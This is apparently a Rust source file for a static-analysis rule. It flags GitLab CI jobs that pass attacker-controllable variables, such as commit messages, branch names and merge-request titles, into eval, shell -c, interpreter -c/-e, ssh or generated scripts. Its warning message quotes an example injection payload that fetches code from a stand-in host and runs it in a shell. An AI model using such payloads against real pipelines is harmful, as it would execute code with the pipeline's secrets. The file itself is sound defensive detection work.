//! GitLab CI variables that whoever pushes a branch or opens a merge request controls (commit
//! message, branch name, MR title and description…) where they become code again. As environment
//! variables they are data: `echo "$CI_COMMIT_MESSAGE"` is safe. They turn into code when the script
//! builds a command string out of them: `eval`, `sh -c "…$VAR…"`, an `ssh` remote command, or a script
//! file written with their value and then run.

use crate::pipeline::jobs::{self, Ci, Job, Step, System};
use crate::pipeline::shell::{Command, VarRef, Word, basename};
use crate::rules::{FileView, RawFinding};
use std::collections::BTreeSet;

/// Predefined variables an outsider can set (by naming a branch, writing a commit or an MR).
const TAINTED: &[&str] = &[
    "CI_COMMIT_MESSAGE",
    "CI_COMMIT_TITLE",
    "CI_COMMIT_DESCRIPTION",
    "CI_COMMIT_TAG_MESSAGE",
    "CI_COMMIT_BRANCH",
    "CI_COMMIT_REF_NAME",
    "CI_COMMIT_AUTHOR",
    "CI_MERGE_REQUEST_TITLE",
    "CI_MERGE_REQUEST_DESCRIPTION",
    "CI_MERGE_REQUEST_SOURCE_BRANCH_NAME",
    "CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME",
    "CI_MERGE_REQUEST_LABELS",
    "GITLAB_USER_NAME",
];
const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "ash"];
/// Interpreters and the option that takes program text.
const CODE_OPTS: &[(&str, &str)] =
    &[("python", "-c"), ("python3", "-c"), ("node", "-e"), ("perl", "-e"), ("ruby", "-e")];
const SSH_VALUE_OPTS: &[&str] = &[
    "-p", "-i", "-o", "-l", "-F", "-J", "-L", "-R", "-D", "-E", "-b", "-c", "-e", "-m", "-O", "-Q", "-S",
    "-W", "-w", "-B",
];

pub fn check(file: &FileView<'_>) -> Vec<RawFinding> {
    let Some(ci) = jobs::load(file).filter(|c| c.system == System::GitLab) else { return Vec::new() };
    let mut out = Vec::new();
    for job in &ci.jobs {
        let tainted = tainted_names(job);
        let cmds: Vec<(&Step, &Command)> = Ci::commands(job).collect();
        for (n, (step, cmd)) in cmds.iter().enumerate() {
            let Some(program) = cmd.program() else { continue };
            let args = cmd.args();
            let sinks: Vec<(&Word, String)> = if program == "eval" {
                args.iter().map(|w| (w, "`eval` runs it as shell code".to_string())).collect()
            } else if SHELLS.contains(&program) {
                command_string(args, "-c")
                    .map(|w| (w, format!("`{program} -c` runs it as shell code")))
                    .into_iter()
                    .collect()
            } else if let Some((_, opt)) = CODE_OPTS.iter().find(|(p, _)| *p == program) {
                command_string(args, opt)
                    .map(|w| (w, format!("`{program} {opt}` runs it as program text")))
                    .into_iter()
                    .collect()
            } else if program == "ssh" {
                ssh_remote_command(args)
                    .iter()
                    .map(|w| (*w, "`ssh` sends it to the remote shell, which parses it again".to_string()))
                    .collect()
            } else {
                Vec::new()
            };
            for (w, why) in sinks {
                for v in w.vars.iter().filter(|v| tainted.contains(&v.name)) {
                    out.push(report(ci, step, v, &why));
                }
            }
            // A script file written with the value, then run.
            let writes =
                cmd.redirects.iter().find(|r| r.op.starts_with('>')).and_then(|r| r.target.value.clone());
            if let Some(target) = writes.filter(|t| !t.starts_with("/dev/")) {
                let run_later = cmds.iter().skip(n + 1).any(|(_, c)| runs_file(c, &target));
                if !run_later {
                    continue;
                }
                let why = format!("the value is written into `{target}`, which is then run as a script");
                let mut vars: Vec<&VarRef> = args.iter().flat_map(|w| w.vars.iter()).collect();
                vars.extend(cmd.heredocs.iter().filter(|h| h.expands).flat_map(|h| h.vars.iter()));
                for v in vars.into_iter().filter(|v| tainted.contains(&v.name)) {
                    out.push(report(ci, step, v, &why));
                }
            }
        }
    }
    out
}

fn report(ci: &Ci, step: &Step, v: &VarRef, why: &str) -> RawFinding {
    ci.finding(
        step,
        v.span,
        format!("`${}` is set by whoever pushes the branch or opens the merge request, and {why}: a value like `$(curl evil.sh|sh)` executes in this job with its secrets; pass it only as a quoted argument (`\"${}\"`) or through a file, never inside code", v.name, v.name),
    )
}

/// The predefined tainted variables plus job variables and script assignments built from them.
fn tainted_names(job: &Job) -> BTreeSet<String> {
    let mut set: BTreeSet<String> = TAINTED.iter().map(|s| s.to_string()).collect();
    let mentions = |set: &BTreeSet<String>, text: &str| {
        set.iter().any(|t| text.contains(&format!("${t}")) || text.contains(&format!("${{{t}}}")))
    };
    for _ in 0..3 {
        for (k, v) in &job.variables {
            if mentions(&set, v) {
                set.insert(k.clone());
            }
        }
        for a in job.steps.iter().flat_map(|s| s.script.assignments.iter()) {
            if a.value.as_ref().is_some_and(|w| w.vars.iter().any(|v| set.contains(&v.name))) {
                set.insert(a.name.clone());
            }
        }
    }
    set
}

/// The word after `opt` (`-c`), also when `opt` is clustered (`-ec`, `-xc`).
fn command_string<'a>(args: &'a [Word], opt: &str) -> Option<&'a Word> {
    let flag = opt.trim_start_matches('-');
    let i = args.iter().position(|w| {
        let t = w.text();
        t == opt || (t.starts_with('-') && !t.starts_with("--") && t.len() > 2 && t.ends_with(flag))
    })?;
    args.get(i + 1)
}

/// The remote command words of `ssh [options] host command…`.
fn ssh_remote_command(args: &[Word]) -> Vec<&Word> {
    let mut i = 0;
    while let Some(w) = args.get(i) {
        let t = w.text();
        if !t.starts_with('-') {
            return args.get(i + 1..).map(|r| r.iter().collect()).unwrap_or_default();
        }
        i += if SSH_VALUE_OPTS.contains(&t) { 2 } else { 1 };
    }
    Vec::new()
}

/// `sh x.sh`, `bash ./x.sh`, `source x.sh`, `. x.sh`, `./x.sh`.
fn runs_file(cmd: &Command, target: &str) -> bool {
    let same = |t: &str| t.trim_start_matches("./") == target.trim_start_matches("./");
    let Some((name, args)) = cmd.invocation() else { return false };
    let Some(program) = name.value.as_deref() else { return false };
    if same(program) && (program.contains('/') || program == target) {
        return true;
    }
    let base = basename(program);
    (SHELLS.contains(&base) || base == "source" || base == ".")
        && args.iter().find(|a| !a.text().starts_with('-')).is_some_and(|a| same(a.text()))
}
